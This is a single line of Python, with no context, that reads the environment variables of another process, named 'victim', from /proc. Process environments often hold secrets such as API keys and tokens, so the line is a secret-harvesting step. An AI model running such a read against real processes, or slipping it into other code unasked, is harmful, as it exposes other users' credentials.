open(f"/proc/{victim}/environ", "rb").read()
